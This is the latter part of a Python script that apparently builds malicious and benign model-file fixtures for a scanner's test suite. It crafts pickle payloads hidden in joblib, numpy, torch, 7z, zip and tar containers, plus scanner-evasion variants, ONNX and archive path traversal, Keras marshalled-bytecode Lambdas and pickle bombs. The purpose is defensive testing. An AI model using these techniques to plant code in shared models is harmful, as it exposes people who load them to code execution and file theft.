      'joblib', 'payload pickled AFTER a NumpyArrayWrapper whose raw array bytes sit inside the pickle stream',
      '3.3.35,3.2.21', JL)
    for comp in ['zlib', 'gzip', 'bz2', 'lzma', 'xz', 'lz4']:
        try:
            blob = joblib_bytes({'extra': evil}, compress=(comp, 3))
        except Exception as e:  # noqa: BLE001
            SKIPPED.append(('malicious joblib %s' % comp, str(e)))
            continue
        W('joblib_reduce.joblib.%s' % comp, blob, 'joblib-' + comp, 'joblib.dump(compress=(%r, 3)) of a payload'
          % comp, '3.2.22,3.3.35', JL)
    # compression wrappers around a plain pickle (joblib.load sniffs the magic)
    plain = pickle.dumps(evil, protocol=4)
    W('pickle.pkl.gz', gz(plain), 'gzip', 'gzip-compressed plain pickle (joblib.load detects gzip magic)',
      '3.2.22', JL)
    W('pickle.pkl.bz2', bz2.compress(plain), 'bz2', 'bzip2-compressed plain pickle', '3.2.22', JL)
    W('pickle.pkl.xz', lzma.compress(plain), 'xz', 'xz-compressed plain pickle', '3.2.22', JL)
    W('pickle.pkl.lzma', lzma.compress(plain, format=lzma.FORMAT_ALONE), 'lzma', 'legacy .lzma (alone) plain '
      'pickle', '3.2.22', JL)
    W('pickle.pkl.z', zlib.compress(plain), 'zlib', 'raw zlib stream of a plain pickle', '3.2.22', JL)
    W('pickle_gzip_open.pkl.gz', gz(plain), 'gzip', 'gzip-compressed pickle read through gzip.open',
      '3.2.22', 'gzip.open + pickle.load')
    try:
        zst = subprocess.run(['zstd', '-q', '-c', '--no-check'], input=plain, capture_output=True, check=True).stdout
        W('pickle.pkl.zst', zst, 'zstd', 'zstd-compressed plain pickle', '3.2.22', None, allow_unproven=True,
          unproven_reason='no installed loader reads zstd (zstandard module absent, joblib lacks zstd)')
    except (OSError, subprocess.CalledProcessError) as e:
        SKIPPED.append(('zstd wrapper', str(e)))
    # numpy
    arr = np.empty(2, dtype=object)
    arr[0], arr[1] = 'label', evil
    W('numpy_object_reduce.npy', npy_bytes(arr), 'npy', '.npy object array whose pickle holds a __reduce__ payload',
      '3.3.32', 'numpy.load')
    W('numpy_object_reduce.npz', npz_bytes(weights=np.arange(4.0), meta=arr), 'npz',
      '.npz (np.savez) with a benign numeric member and a malicious object member', '3.3.32,3.2.22',
      'numpy.load (npz, every member)')
    W('numpy_object_reduce_compressed.npz', npz_bytes(True, weights=np.arange(4.0), meta=arr), 'npz',
      'np.savez_compressed (deflate) with a malicious object member', '3.3.32,3.2.22',
      'numpy.load (npz, every member)')
    # archives
    W('pickle_in_7z.7z', sevenzip_bytes([('model/model.pkl', plain)]), '7z', '7z archive holding a malicious pickle',
      '3.2.12', '7z x + pickle.load')
    broken = b'\x80\x02' + emit({'weights': [1, 2]}, 2) + emit(sh_call(), 2) + b'\x00\xffbroken'
    W('nullifai_torch_7z.7z', sevenzip_bytes([('archive/data.pkl', broken), ('archive/version', b'3\n')]), '7z',
      'nullifAI: PyTorch-layout archive compressed with 7z instead of zip, data.pkl broken right after the payload',
      '3.2.11,3.2.12', '7z x + pickle.load')
    W('zip_in_zip.zip', zip_bytes([('checkpoints/model.pt', tz), ('README.md', b'tiny model\n')]), 'zip',
      'zip containing a malicious torch zip checkpoint (nested zip)', '3.2.22', 'zipfile extract + torch.load')
    W('zip_prepended_stub.zip', zip_bytes([('model.pkl', plain)], prefix=b'MZ' + b'\x90' * 62 + b'#!stub\n'),
      'zip', 'self-extractor style: junk bytes before the zip (offsets relative to the zip start); Python zipfile '
      'still reads it', '3.2.21', 'zipfile.open + pickle.load')
    W('tar_gz_pickle.tar.gz', tar_bytes([('model.pkl', plain)], 'w:gz'), 'tar', 'gzip-compressed tar holding a '
      'malicious pickle', '3.2.22', 'tarfile.extractfile + pickle.load')
    W('zip_encrypted_pickle.zip', zipcrypto_zip('model.pkl', plain, b'infected'), 'zip',
      'password-protected (ZipCrypto, password "infected") zip holding a malicious pickle: contents unscannable '
      'without the password', '3.2.22', 'zipfile.open(pwd=b"infected") + pickle.load')
    bz = zipfile.ZipFile(io.BytesIO(torch_bytes({'state_dict': sd})))
    W('torch_zip_extra_pickle_member.pt', zip_bytes([(n, bz.read(n)) for n in bz.namelist()] +
                                                    [('archive/config.p', plain)]), 'pytorch-zip',
      'benign torch zip plus an extra member archive/config.p holding a malicious pickle (CVE-2025-1889: scanners '
      'that only open *.pkl members)', '3.2.14', None, allow_unproven=True,
      unproven_reason='torch.load only unpickles <dir>/data.pkl; the extra member runs only if some other code '
      'unpickles it')


def onnx_model(location=None):
    """Tiny Identity model; its initializer W is inline, or external at `location`."""
    import onnx
    import onnx.helper as h
    t = onnx.TensorProto()
    t.name, t.data_type = 'W', onnx.TensorProto.UINT8
    t.dims.append(4)
    if location is None:
        t.raw_data = bytes([1, 2, 3, 4])
    else:
        t.data_location = onnx.TensorProto.EXTERNAL
        e = t.external_data.add()
        e.key, e.value = 'location', location
    g = h.make_graph([h.make_node('Identity', ['W'], ['Y'])], 'g', [],
                     [h.make_tensor_value_info('Y', onnx.TensorProto.UINT8, [4])], initializer=[t])
    m = h.make_model(g, producer_name='modelgate-fixture', opset_imports=[h.make_opsetid('', 13)])
    m.ir_version = 8
    return m.SerializeToString()


def keras_h5_lambda():
    """Keras-2 style HDF5 model whose Lambda layer carries marshalled bytecode (func_dump)."""
    import base64
    import marshal
    import h5py
    code = compile(PY_CODE + '\n', '<lambda>', 'exec')
    cfg = {'class_name': 'Sequential', 'config': {'name': 'sequential', 'layers': [
        {'class_name': 'InputLayer', 'config': {'batch_input_shape': [None, 2], 'dtype': 'float32',
                                                 'name': 'input_1'}},
        {'class_name': 'Lambda', 'config': {'name': 'lambda', 'trainable': True, 'dtype': 'float32',
                                            'function': [base64.b64encode(marshal.dumps(code)).decode(), None,
                                                         None],
                                            'function_type': 'lambda', 'module': '__main__',
                                            'output_shape': None, 'arguments': {}}}]}}
    with tempfile.TemporaryDirectory() as td:
        p = os.path.join(td, 'm.h5')
        fcpl = h5py.h5p.create(h5py.h5p.FILE_CREATE)
        fcpl.set_obj_track_times(False)  # root group without timestamps
        with h5py.File(h5py.h5f.create(p.encode(), h5py.h5f.ACC_TRUNC, fcpl=fcpl)) as f:
            f.attrs['keras_version'] = '2.11.0'
            f.attrs['backend'] = 'tensorflow'
            f.attrs['model_config'] = json.dumps(cfg)
            gcpl = h5py.h5p.create(h5py.h5p.GROUP_CREATE)
            gcpl.set_obj_track_times(False)  # no creation timestamps: reproducible bytes
            h5py.h5g.create(f.id, b'model_weights', gcpl=gcpl)
        with open(p, 'rb') as f:
            return f.read()


def memo_expansion_pickle(depth=40):
    """'Billion laughs': each level is a 10-element list of the previous level via BINGET."""
    out = bytearray(b'\x80\x04' + _str('lol', 4) + b'q\x00')
    for i in range(depth):
        out += b'(' + (b'h' + bytes([i])) * 10 + b'l' + b'q' + bytes([i + 1])
        out += b'0'
    out += b'h' + bytes([depth]) + b'.'
    return bytes(out)


def gen_other_formats():
    print('other formats:')
    W = write_malicious
    W('onnx_external_data_traversal.onnx', onnx_model('unproven/' + '../' * 16 + 'etc/os-release'), 'onnx',
      'ONNX initializer external_data location "unproven/../../..../etc/os-release": leading "../" is stripped by '
      "onnx's _sanitize_path (lstrip), a traversal after a real sub-directory is not (CVE-2024-27318 style)",
      '3.3.30', 'onnx.load', cand_dirs=('unproven',),
      notes='needs an existing directory named "unproven" next to the model (true in test/fixtures/malicious); '
      'the proof script touches the marker when the initializer bytes equal /etc/os-release')
    W('onnx_external_data_absolute.onnx', onnx_model('/etc/os-release'), 'onnx',
      'ONNX external_data location is an absolute path', '3.3.30', 'onnx.load', allow_unproven=True,
      unproven_reason="Debian's onnx 1.12 strips leading '/' (CVE-2022-25882 fix); unpatched onnx < 1.13 reads it")
    W('onnx_external_data_dotdot.onnx', onnx_model('../../../../../../../../etc/os-release'), 'onnx',
      'ONNX external_data location with leading ../ components', '3.3.30', 'onnx.load', allow_unproven=True,
      unproven_reason="Debian's onnx 1.12 strips leading '../'; unpatched onnx < 1.13 reads it")
    try:
        W('keras_lambda.h5', keras_h5_lambda(), 'keras-h5', 'Keras HDF5 model_config with a Lambda layer whose '
          'function is base64(marshal(bytecode)) (CPython 3.11 bytecode)', '3.3.28', None, allow_unproven=True,
          unproven_reason='keras/tensorflow are not installed, so no real loader can be run')
    except ImportError as e:
        SKIPPED.append(('keras h5', str(e)))
    W('tar_path_traversal.tar', tar_bytes([('model/config.json', b'{}'), ('../../' + BAKED, b'')]), 'tar',
      'tar member named "../../modelgate-marker" (archive slip): Python 3.11 tarfile.extractall writes outside the '
      'target directory', '3.3.33', 'tarfile.extractall')
    W('zip_path_traversal.zip', zip_bytes([('model/config.json', b'{}'), ('../../' + BAKED, b'')]), 'zip',
      'zip member named "../../modelgate-marker" (zip slip)', '3.3.33', 'zipfile extract + torch.load',
      allow_unproven=True, unproven_reason='Python zipfile.extract strips ".." components; other extractors '
      '(unzip -:, naive Go/Java code) do not')
    W('dos_memo_expansion.pkl', memo_expansion_pickle(), 'pickle',
      'memo "billion laughs": 40 levels of 10 BINGET references (10^40 leaves if expanded); CPython shares the '
      'references and loads it instantly', '3.2.25', None, allow_unproven=True,
      unproven_reason='no code execution: a resource-exhaustion test for scanners that expand the memo')
    deep = b'\x80\x04' + b']' * 40000 + b'a' * 39999 + b'.'
    W('dos_deep_nesting.pkl', deep, 'pickle', '40000 nested lists (EMPTY_LIST x 40000, APPEND x 39999)',
      '3.2.25', None, allow_unproven=True,
      unproven_reason='no code execution: a recursion/stack-depth test for scanners')


def torch_bytes_cloudpickle(obj):
    import cloudpickle
    import torch
    bio = io.BytesIO()
    torch.save(obj, bio, pickle_module=cloudpickle)
    return bio.getvalue()


def main():
    if os.environ.get('PYTHONHASHSEED') != '0':  # set/dict-of-str orders (e.g. TorchScript) must not vary
        os.execve(sys.executable, [sys.executable] + sys.argv, dict(os.environ, PYTHONHASHSEED='0'))
    # Remove only what this script wrote last time (listed in manifest.json):
    # the per-format generators own their own subfolders and manifests.
    old = os.path.join(FIX, 'manifest.json')
    if os.path.exists(old):
        with open(old) as f:
            for e in json.load(f):
                p = os.path.join(FIX, e['file'])
                if os.path.isfile(p):
                    os.remove(p)
    for d in (BENIGN, MAL, UNPROVEN):
        os.makedirs(d, exist_ok=True)
    gen_benign()
    verify_benign()
    gen_malicious_pickles()
    gen_malicious_containers()
    gen_other_formats()
    MANIFEST.sort(key=lambda e: e['file'])
    with open(os.path.join(FIX, 'manifest.json'), 'w') as f:
        json.dump(MANIFEST, f, indent=1, ensure_ascii=False)
        f.write('\n')
    counts = collections.Counter((e['label'], e['format'], e['proven']) for e in MANIFEST)
    print('\nsummary (label, format, proven): count')
    for k in sorted(counts, key=str):
        print('  %-50s %d' % (k, counts[k]))
    total = sum(os.path.getsize(os.path.join(FIX, e['file'])) for e in MANIFEST)
    print('total size: %d bytes in %d files' % (total, len(MANIFEST)))
    if SKIPPED:
        print('skipped:')
        for n, why in SKIPPED:
            print('  %s: %s' % (n, why))


if __name__ == '__main__':
    main()
